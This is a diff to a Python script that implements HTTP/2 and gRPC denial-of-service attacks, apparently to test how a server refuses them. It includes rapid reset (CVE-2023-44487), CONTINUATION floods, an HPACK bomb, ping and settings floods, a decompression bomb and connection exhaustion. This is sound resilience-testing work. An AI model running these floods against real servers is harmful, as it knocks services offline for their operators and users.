@@ -1,7 +1,9 @@
 #!/usr/bin/env python3
 """What hostile clients do: each attack goes on for some seconds, or until the server has ended it. None needs a token.
 
-  attacks.py NAME HOST:PORT SECONDS      prints what was sent, and how the server refused it, as JSON
+  attacks.py NAME HOST:PORT SECONDS OPTIONS     prints what was sent, and how the server refused it, as JSON
+
+OPTIONS: a JSON object with arguments of the attack in place of their defaults, `count` for one.
 """
 
 import contextlib
@@ -20,8 +22,8 @@ BATCH = 100  # frames between two looks at the clock
 LARGEST_FRAME = 16384  # that every server takes
 
 
-def flood(target, seconds, batches, before=b""):
-    """Sends `before`, and then what the iterator `batches` yields. `sent` counts the batches."""
+def flood(target, seconds, batches, unit, before=b"", size=1):
+    """Sends `before`, and then what the iterator `batches` yields, which has `size` of what `unit` names."""
     end, sent, taken = time.monotonic() + seconds, 0, True
     with Connection(target) as connection:
         taken = connection.send(before)
@@ -29,8 +31,8 @@ def flood(target, seconds, batches, before=b""):
             if not taken or time.monotonic() > end:
                 break
             taken = connection.send(batch)
-            sent += taken
-        return {"sent": sent, "refused": connection.ending()}
+            sent += size * taken
+        return {"sent": sent, "unit": unit, "refused": connection.ending()}
 
 
 def forever(data):
@@ -47,46 +49,47 @@ def rapid_reset(target, seconds):
     """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
     headers = call(EMBED)
     cancelled = (frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, bytes([0, 0, 0, 8])) for stream in client_streams())
-    return flood(target, seconds, cancelled)
+    return flood(target, seconds, cancelled, "calls")
 
 
 def open_streams(target, seconds):
     """Calls whose message never comes."""
     headers = call(EMBED)
-    return flood(target, seconds, (frame(HEADERS, END_HEADERS, stream, headers) for stream in client_streams()))
+    return flood(target, seconds, (frame(HEADERS, END_HEADERS, stream, headers) for stream in client_streams()), "calls")
 
 
 def continuation(target, seconds):
     """A header block without an end, of fields that are small enough each (CVE-2023-33953)."""
     fields = b"".join(field(f"x-{number}", "v" * 200) for number in range(30))
-    return flood(target, seconds, forever(frame(CONTINUATION, 0, 1, fields)), frame(HEADERS, 0, 1, call(EMBED)))
+    return flood(target, seconds, forever(frame(CONTINUATION, 0, 1, fields)), "frames", frame(HEADERS, 0, 1, call(EMBED)))
 
 
 def header_string(target, seconds):
     """One header field of a gibibyte, in pieces (CVE-2023-33953)."""
     begin = call(EMBED) + b"\x00" + integer(1, 7) + b"x" + integer(1 << 30, 7)
-    return flood(target, seconds, forever(frame(CONTINUATION, 0, 1, b"v" * LARGEST_FRAME)), frame(HEADERS, 0, 1, begin))
+    return flood(target, seconds, forever(frame(CONTINUATION, 0, 1, b"v" * LARGEST_FRAME)), "frames", frame(HEADERS, 0, 1, begin))
 
 
 def header_table(target, seconds):
     """Header blocks of single bytes, each of which stands for 3.9 KB that the server was told to keep (an HPACK bomb)."""
     kept = frame(HEADERS, END_HEADERS, 1, call(EMBED) + field("x-bomb", "v" * 3900, kept=True))
     bombs = (frame(HEADERS, END_HEADERS, stream + 2, call(EMBED) + b"\xbe" * 10_000) for stream in client_streams())
-    return flood(target, seconds, bombs, kept)
+    return flood(target, seconds, bombs, "calls", kept)
 
 
 def pings(target, seconds):
-    return flood(target, seconds, forever(frame(PING, payload=b"midlayer") * BATCH))
+    """Pings, without a pause."""
+    return flood(target, seconds, forever(frame(PING, payload=b"midlayer") * BATCH), "pings", size=BATCH)
 
 
 def settings(target, seconds):
-    """Each is to be answered."""
-    return flood(target, seconds, forever(frame(SETTINGS, payload=b"\0\4\0\1\0\0") * BATCH))
+    """Settings, each of which is to be answered."""
+    return flood(target, seconds, forever(frame(SETTINGS, payload=b"\0\4\0\1\0\0") * BATCH), "frames", size=BATCH)
 
 
 def empty_data(target, seconds):
     """Frames without a byte, within a call."""
-    return flood(target, seconds, forever(frame(DATA, 0, 1) * BATCH), frame(HEADERS, END_HEADERS, 1, call(EMBED)))
+    return flood(target, seconds, forever(frame(DATA, 0, 1) * BATCH), "frames", frame(HEADERS, END_HEADERS, 1, call(EMBED)), BATCH)
 
 
 def compressed(target, seconds, size=256 * MIB):
@@ -102,7 +105,7 @@ def compressed(target, seconds, size=256 * MIB):
             sent += connection.send(frame(HEADERS, END_HEADERS, 1, call(EMBED, ("grpc-encoding", "gzip"))),
                                     *(frame(DATA, 0, 1, piece) for piece in pieces), frame(DATA, END_STREAM, 1))
             refused = connection.ending(bound=seconds)
-    return {"sent": sent, "refused": refused}
+    return {"sent": sent, "unit": "messages", "refused": refused}
 
 
 def varint(value):
@@ -134,7 +137,7 @@ def many(target, seconds, count, greeting, drip=b""):
                             ended.add(connection)
                     except ConnectionError:
                         ended.add(connection)
-        return {"sent": count, "refused": [f"{len(ended)} connections ended"]}
+        return {"sent": count, "unit": "connections", "refused": [f"{len(ended)} ended"] if ended else []}
 
 
 def idle(target, seconds, count=10_000):
@@ -173,10 +176,10 @@ ATTACKS = {attack.__name__: attack for attack in (
 
 
 def main():
-    name, target, seconds = sys.argv[1:]
+    name, target, seconds, options = sys.argv[1:]
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    print(json.dumps(ATTACKS[name](target, float(seconds))))
+    print(json.dumps(ATTACKS[name](target, float(seconds), **json.loads(options))))
 
 
 if __name__ == "__main__":
